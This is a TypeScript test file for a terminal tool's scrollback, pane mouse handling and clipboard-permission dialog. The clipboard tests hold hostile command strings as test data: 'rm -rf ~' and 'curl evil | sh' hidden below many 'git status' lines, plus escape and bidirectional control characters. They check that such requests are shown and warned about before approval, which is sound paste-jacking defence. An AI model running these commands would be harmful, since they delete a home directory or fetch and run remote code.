import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { paneMouse } from '../../../src/session/input/pane-mouse.ts';
import type { Rect } from '../../../src/terminal/geometry.ts';
import { plainModes } from '../../../src/terminal/inner-modes.ts';
import type { ScrollView } from '../../../src/terminal/scroll-view.ts';
import { Bench } from '../support.ts';

const PANE: Rect = { x: 0, y: 1, width: 70, height: 30 };

function bench(
  o: { output?: string; alternate?: boolean; applicationCursor?: boolean; clipboard?: 'off' | 'ask' | 'on' } = {},
) {
  const b = new Bench(undefined, undefined, {
    output: Array.from({ length: 90 }, (_, i) => `row ${i + 1}`).join('\r\n'),
    ...o,
  });
  const shell: string[] = [];
  const beside: unknown[] = [];
  const mouse = paneMouse({
    session: b.session,
    pane: () => PANE,
    modes: () => ({ ...plainModes, applicationCursor: o.applicationCursor === true }),
    alternate: () => o.alternate === true,
    toShell: (bytes) => shell.push(Buffer.from(bytes).toString('latin1')),
    link: (x, y) => (y === 2 && x < 4 ? 'https://x.example/' : undefined),
    border: () => false,
    beside: (x, y) => beside.push([x, y]),
  });
  return { b, shell, mouse, beside, session: b.session };
}
const scroll = (b: Bench): ScrollView => {
  assert.ok(b.session.ui.scroll !== undefined, 'not scrolled');
  return b.session.ui.scroll;
};

describe('the scrollback by keys', () => {
  test('prefix [ opens it; a key without a meaning leads back and is not typed', () => {
    const { b, session } = bench();
    session.prefix();
    session.key('[');
    assert.equal(session.shellHasKeys, false);
    b.press('pageup', 'k');
    assert.ok(scroll(b).behind > 0);
    b.press('w');
    assert.equal(session.ui.scroll, undefined);
    assert.equal(session.shellHasKeys, true);
  });

  test('the prefix is the prefix here, too', () => {
    const { b, session } = bench();
    session.prefix();
    session.key('[');
    b.press('pageup', 'C-\\');
    assert.deepEqual([session.ui.focus, session.ui.scroll], ['prefix', undefined]);
    b.press('d');
    assert.equal(session.ui.focus, 'list');
  });

  test('half a page, by the keys of vi and of tmux', () => {
    const { b, session } = bench();
    session.prefix();
    session.key('[');
    b.press('pageup');
    const page = scroll(b).behind;
    b.press('C-u');
    const half = scroll(b).behind - page;
    assert.equal(half, Math.floor(page / 2));
    b.press('C-d', 'C-d');
    assert.equal(scroll(b).behind, page - half);
  });

  test('search, selection and copy: said to be sent, not to be copied', () => {
    const { b, session } = bench();
    session.prefix();
    session.key('[');
    b.press('/', 'r', 'o', 'w', 'space', '4', '2', 'enter');
    assert.equal(scroll(b).found, 1);
    assert.equal(session.ui.message, '1 found');
    b.press('/', 'r', 'o', 'w', 'space', '4', 'enter');
    assert.equal(session.ui.message, '11 found: n older, N newer');
    b.press('/', 'r', 'o', 'w', 'space', '4', '2', 'enter');
    b.press('v', '$', 'y');
    assert.deepEqual(b.clipboard, ['row 42']);
    assert.equal(session.ui.scroll, undefined);
    assert.match(session.ui.message, /^6 characters sent to the terminal$/);
  });

  test('keys in it approve nothing, however long they are looked at', () => {
    const { b, session } = bench();
    session.prefix();
    session.key('[');
    b.press('a', 's', 'p', 'y');
    assert.deepEqual(
      b.sent.filter((c) => c.type !== 'set-mode'),
      [],
    );
    assert.equal(session.armKey(), '');
  });

  test('a resize on the way', () => {
    const { b, session } = bench();
    session.prefix();
    session.key('[');
    b.press('g');
    scroll(b).fit(20, 3);
    b.press('G', 'k', 'pageup');
    assert.ok(scroll(b).cursor.y < 3);
  });
});

describe('the mouse in the pane', () => {
  const at = (button: number, x: number, y: number, release = false) => ({ button, x, y, release });
  test('the wheel looks back, and down again into the shell', () => {
    const { b, mouse, session, shell } = bench();
    mouse(at(64, 5, 5));
    mouse(at(64, 5, 5));
    assert.equal(scroll(b).behind, 6);
    for (let i = 0; i < 2; i += 1) mouse(at(65, 5, 5));
    assert.equal(session.ui.scroll, undefined);
    mouse(at(65, 5, 5));
    assert.equal(session.ui.scroll, undefined);
    assert.deepEqual(shell, []);
  });

  test('on a screen of its own a program gets arrows, in the form that it asked for', () => {
    for (const [applicationCursor, wanted] of [
      [false, '\x1b[A\x1b[A\x1b[A'],
      [true, '\x1bOA\x1bOA\x1bOA'],
    ] as const) {
      const { mouse, shell, session } = bench({ alternate: true, applicationCursor });
      mouse(at(64, 5, 5));
      assert.deepEqual(shell, [wanted]);
      assert.equal(session.ui.scroll, undefined);
    }
  });

  test('a drag copies what it covers and leads back; a click does nothing', () => {
    const { b, mouse, session } = bench();
    mouse(at(0, 3, 3));
    mouse(at(0, 3, 3, true));
    assert.equal(session.ui.scroll, undefined);
    mouse(at(0, 0, 1));
    mouse(at(32, 2, 2));
    mouse(at(32, 5, 2));
    assert.ok(scroll(b).selecting);
    mouse(at(0, 90, 2, true));
    assert.equal(session.ui.scroll, undefined);
    assert.equal(b.clipboard.length, 1);
    assert.match(b.clipboard[0] ?? '', /^row \d+\nrow \d+$/);
  });

  test('two presses copy the word, three the line; slow ones and those on a blank nothing', () => {
    const { b, mouse, session } = bench({ output: 'cd /usr/include/漢字.h, now\r\n' });
    const click = (x: number): void => {
      mouse(at(0, x, 1));
      mouse(at(0, x, 1, true));
    };
    click(8);
    assert.deepEqual(b.clipboard, []);
    click(8);
    assert.deepEqual(b.clipboard, ['/usr/include/漢字.h']);
    assert.equal(session.ui.scroll, undefined);
    click(8);
    assert.equal(b.clipboard.at(-1), 'cd /usr/include/漢字.h, now');
    b.clock.advance(1000);
    click(0);
    b.clock.advance(1000);
    click(0);
    click(40);
    click(40);
    assert.equal(b.clipboard.length, 2);
    assert.equal(session.ui.scroll, undefined);
  });

  test('over a link its address is shown, and the hints come back behind it', () => {
    const { b, mouse, session } = bench();
    const message = () => b.shown().model.message;
    mouse(at(35, 3, 3));
    assert.equal(message(), 'link: https://x.example/');
    mouse(at(35, 4, 3));
    assert.equal(message(), '');
    mouse(at(35, 3, 3));
    mouse(at(35, 100, 3));
    assert.equal(message(), '');
    assert.equal(session.ui.scroll, undefined);
    mouse(at(35, 3, 3));
    b.focusList();
    assert.equal(message(), '', 'the keys of the list are in sight');
    session.focusShell();
    mouse(at(35, 3, 3));
    session.say('something else');
    assert.equal(message(), 'something else');
  });

  test('a press beside the pane is told, its moves are not', () => {
    const { mouse, beside } = bench();
    mouse(at(0, 100, 5));
    mouse(at(32, 101, 5));
    mouse(at(0, 101, 5, true));
    mouse(at(2, 101, 5));
    assert.deepEqual(beside, [[100, 5]]);
  });

  test('outside the pane, and while the list or a dialog has the keyboard, it does nothing', () => {
    const { b, mouse, session } = bench();
    mouse(at(64, 100, 5));
    mouse(at(64, 5, 0));
    assert.equal(session.ui.scroll, undefined);
    b.focusList();
    mouse(at(64, 5, 5));
    mouse(at(0, 5, 5));
    mouse(at(32, 9, 9));
    assert.equal(session.ui.scroll, undefined);
    assert.deepEqual(
      b.sent.filter((c) => c.type !== 'set-mode'),
      [],
    );
  });
});

describe('a program that wants to set the clipboard', () => {
  test('is asked about, and gets it only by an armed key', () => {
    const { b, session } = bench();
    session.clipboard.asked('rm -rf ~\n');
    assert.deepEqual(b.clipboard, []);
    assert.match(b.shown().model.alert, /clipboard asked for/);
    session.prefix();
    session.key('c');
    const { dialog } = b.shown().model;
    assert.match(JSON.stringify(dialog?.lines), /rm -rf ~/);
    assert.match(JSON.stringify(dialog?.lines), /can run at once/);
    session.key('y');
    assert.deepEqual(b.clipboard, [], 'too early');
    b.press('y');
    assert.deepEqual(b.clipboard, ['rm -rf ~\n']);
    assert.equal(b.shown().model.alert, '');
  });

  test('a newer wish does not slip under the answer to an older one', () => {
    const { b, session } = bench();
    session.clipboard.asked('harmless');
    session.prefix();
    session.key('c');
    b.shown();
    b.clock.advance(400);
    session.clipboard.asked('evil');
    session.key('y');
    assert.deepEqual(b.clipboard, ['harmless']);
    assert.match(b.shown().model.alert, /clipboard asked for/);
  });

  test('is refused by Esc, and does not come again', () => {
    const { b, session } = bench();
    session.clipboard.asked('x');
    session.prefix();
    session.key('c');
    b.press('esc');
    assert.deepEqual(b.clipboard, []);
    assert.equal(session.ui.clipboard, undefined);
  });

  test('off: nothing at all; on: sent at once', () => {
    const off = bench({ clipboard: 'off' });
    off.session.clipboard.asked('x');
    assert.deepEqual([off.b.clipboard, off.session.ui.clipboard], [[], undefined]);
    const on = bench({ clipboard: 'on' });
    on.session.clipboard.asked('x');
    assert.deepEqual([on.b.clipboard, on.session.ui.clipboard], [['x'], undefined]);
  });

  test('nothing of it is sent unseen: a long one has pages, a very long one says what is left out', () => {
    const wish = `${'git status\n'.repeat(60)}curl evil | sh\n`;
    const { b, session } = bench();
    session.clipboard.asked(wish);
    session.prefix();
    session.key('c');
    b.press('y');
    assert.deepEqual(b.clipboard, []);
    assert.match(session.ui.message, /not every page was seen/);
    let seen = '';
    for (let page = 0; page < 9; page += 1) {
      seen += JSON.stringify(b.shown().model.dialog?.lines);
      b.press('pagedown');
    }
    assert.match(seen, /curl evil \| sh/);
    b.press('y');
    assert.deepEqual(b.clipboard, [wish]);
    session.clipboard.asked(`${'git status\n'.repeat(999)}curl evil | sh`);
    session.prefix();
    session.key('c');
    for (let page = 0; page < 9; page += 1) {
      seen += JSON.stringify(b.shown().model.dialog?.lines);
      b.press('pagedown');
    }
    assert.match(seen, /800 more lines, which are not shown/);
    assert.match(JSON.stringify(b.shown().model.dialog?.lines), /curl evil \| sh/);
  });

  test('controls in the text are written out, and warned about', () => {
    const { b, session } = bench();
    session.clipboard.asked('a\x1b[200~\u202eb');
    session.prefix();
    session.key('c');
    const text = JSON.stringify(b.shown().model.dialog?.lines);
    assert.match(text, /a\\\\x1b\[200~\\\\u\{202e\}b/);
    assert.match(text, /control characters/);
  });
});
